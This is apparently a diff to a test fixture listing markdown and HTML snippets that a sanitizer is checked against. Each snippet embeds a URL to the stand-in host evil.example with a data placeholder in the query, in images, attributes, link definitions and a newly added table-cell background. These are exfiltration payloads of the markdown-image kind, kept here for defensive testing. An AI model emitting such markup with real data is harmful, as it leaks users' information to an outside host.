@@ -100,6 +100,7 @@ STAYS = {
     "an escaped parenthesis in another": "![x](https://evil.example/(\\)\\) {})",
     "an attribute in braces": '![x](a.png){{src="//evil.example/?q= {}"}}',
     "an attribute after a colon": "![x](a.png){{: src='//evil.example/?q= {}' }}",
+    "a background in braces": '| x {{: background="//evil.example/?q= {}" }} | y |',
     "a source of any element": '<x-y src="//evil.example/ {}">',
     "a definition with spaces": "![x][a b]\n\n [a b]: //evil.example/?q= {}",
     "a definition over two lines": "![x][a]\n\n[a]:\n  https://evil.example/a as said {}",
